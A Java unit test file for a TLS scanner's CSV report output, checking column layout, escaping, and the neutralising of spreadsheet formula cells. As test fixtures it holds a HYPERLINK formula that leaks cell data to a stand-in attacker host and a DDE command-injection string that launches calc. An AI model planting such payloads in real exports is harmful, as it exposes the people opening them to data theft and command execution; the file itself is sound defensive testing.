package io.tlsweep.report;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.MappingIterator;
import com.fasterxml.jackson.dataformat.csv.CsvMapper;
import com.fasterxml.jackson.dataformat.csv.CsvSchema;
import java.io.IOException;
import java.io.StringWriter;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class CsvReportTest {
    private static final String FORMULA = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")";

    static List<Map<String, String>> readBack(String csv) throws IOException {
        CsvMapper mapper = new CsvMapper();
        try (MappingIterator<Map<String, String>> rows = mapper.readerFor(Map.class)
                .with(CsvSchema.emptySchema().withHeader()).readValues(csv)) {
            return rows.readAll();
        }
    }

    private static String endpointsCsv(ResultJson... results) throws IOException {
        StringWriter out = new StringWriter();
        try (EndpointsCsv csv = new EndpointsCsv(out)) {
            for (ResultJson r : results) {
                csv.write(EndpointFacts.of(r));
            }
        }
        return out.toString();
    }

    @Test
    void endpointsRoundTripWithOneRowPerEndpointAndAColumnPerVersion() throws IOException {
        String csv = endpointsCsv(Results.ready("a.example:443"), Results.breaks("b.example:443"),
                Results.refused("c.example:443"));
        List<Map<String, String>> rows = readBack(csv);

        assertThat(csv.lines().findFirst()).hasValue(String.join(",", EndpointsCsv.COLUMNS));
        assertThat(rows).hasSize(3);
        Map<String, String> ready = rows.get(0);
        assertThat(ready).containsEntry("target", "a.example:443").containsEntry("verdict", "ready")
                .containsEntry("bestVersion", "TLSv1.3").containsEntry("SSLv3", "no").containsEntry("TLSv1.0", "no")
                .containsEntry("TLSv1.2", "yes").containsEntry("TLSv1.3", "yes").containsEntry("suites", "3")
                .containsEntry("order", "server").containsEntry("port", "443").containsEntry("connections", "7")
                .containsEntry("elapsedMs", "120").containsEntry("failure", "");
        assertThat(rows.get(1)).containsEntry("bestVersion", "TLSv1.0").containsEntry("TLSv1.0", "yes")
                .containsEntry("findings", "cbc-tls10-beast 3des-sweet32").containsEntry("order", "client");
        assertThat(rows.get(2)).containsEntry("failure", "connect-refused").containsEntry("windowsCode", "10061")
                .containsEntry("bestVersion", "").containsEntry("suites", "0");
    }

    @Test
    void commasAndQuotesSurviveTheRoundTripAndLineBreaksAreShownAsEscapes() throws IOException {
        String reason = "first, \"quoted\" part\nsecond line\r\nthird";
        String csv = endpointsCsv(Results.endpoint("x.example:443").reason(reason).sni("a,b\"c").build());
        assertThat(csv.lines()).as("one line per row").hasSize(2);
        Map<String, String> row = readBack(csv).get(0);
        assertThat(row).containsEntry("reason", "first, \"quoted\" part\\x0asecond line\\x0d\\x0athird")
                .containsEntry("sni", "a,b\"c");
    }

    @Test
    void formulaCellsAreNeutralisedWhereverTheyComeFrom() throws IOException {
        ResultJson hostile = Results.endpoint(FORMULA).sni("+cmd|' /C calc'!A0").reason("-2+3")
                .note("@SUM(1+1)").protocol("TLSv1.2", "server", "0xC02F:=HYPERLINK(\"x\")")
                .certificate("=HYPERLINK(\"x\")").build();
        Map<String, String> row = readBack(endpointsCsv(hostile)).get(0);
        assertThat(row.get("target")).isEqualTo("'" + FORMULA);
        assertThat(row.get("sni")).isEqualTo("'+cmd|' /C calc'!A0");
        assertThat(row.get("reason")).isEqualTo("'-2+3");
        assertThat(row.get("certificate")).contains("CN=").contains("=HYPERLINK");

        StringWriter out = new StringWriter();
        try (SuitesCsv suites = new SuitesCsv(out)) {
            suites.write(hostile);
        }
        Map<String, String> suite = readBack(out.toString()).get(0);
        assertThat(suite).containsEntry("target", "'" + FORMULA).containsEntry("name", "'=HYPERLINK(\"x\")");
    }

    @ParameterizedTest
    @ValueSource(strings = {"=1+1", "+1", "-1", "@A1"})
    void everyFormulaLeadGetsAnApostrophe(String cell) {
        assertThat(CsvCells.neutralise(cell)).isEqualTo("'" + cell);
    }

    @Test
    void aTabOrCarriageReturnLeadIsShownAsAnEscapeWhichNoSpreadsheetRuns() {
        assertThat(CsvCells.neutralise("\t=1")).isEqualTo("\\x09=1");
        assertThat(CsvCells.neutralise("\r=1")).isEqualTo("\\x0d=1");
        assertThat(CsvCells.neutralise("\u001b=1")).isEqualTo("\\x1b=1");
    }

    @ParameterizedTest
    @ValueSource(strings = {"a=1", "example.com", "1-2", " =1", "'=1", "TLSv1.2"})
    void otherCellsStayAsTheyAre(String cell) {
        assertThat(CsvCells.neutralise(cell)).isEqualTo(cell);
    }

    @Test
    void suitesHaveOneRowPerEndpointVersionAndSuiteInScanOrder() throws IOException {
        StringWriter out = new StringWriter();
        try (SuitesCsv suites = new SuitesCsv(out)) {
            suites.write(Results.legacy("l.example:443"));
            suites.write(Results.refused("r.example:443"));
        }
        List<Map<String, String>> rows = readBack(out.toString());
        assertThat(out.toString().lines().findFirst()).hasValue("target,port,version,position,code,name,order");
        assertThat(rows).extracting(r -> r.get("version") + "#" + r.get("position") + " " + r.get("code"))
                .containsExactly("TLSv1.0#1 0xC013", "TLSv1.2#1 0xC02F", "TLSv1.2#2 0xC013");
        assertThat(rows.get(1)).containsEntry("name", "TLS_ECDHE_RSA_WITH_AES_128_GCM_SHA256")
                .containsEntry("order", "server").containsEntry("port", "443");
    }
}
